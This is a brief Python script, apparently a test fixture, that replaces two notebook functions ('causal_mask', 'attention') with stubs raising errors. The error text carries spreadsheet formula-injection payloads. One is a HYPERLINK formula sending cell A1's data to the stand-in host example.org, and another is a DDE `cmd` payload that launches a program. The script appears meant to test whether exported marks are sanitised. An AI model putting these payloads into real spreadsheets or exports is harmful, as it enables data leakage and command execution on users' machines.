"""story: Raises errors that a spreadsheet takes for formulas, should marks be exported into one."""

from typing import Any

SAYS = r"HYPERLINK"
POINTS = 0.0
SHOWN = '=HYPERLINK("https://example.org?"&A1,"9")\t=cmd|\' /C calc\'!A0\t@SUM(1+1)\t+1\t-1'


def change(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        if cell["id"] in ("causal_mask", "attention"):
            cell["source"] = f"def {cell['id']}(*args):\n    raise ValueError({SHOWN!r})\n"
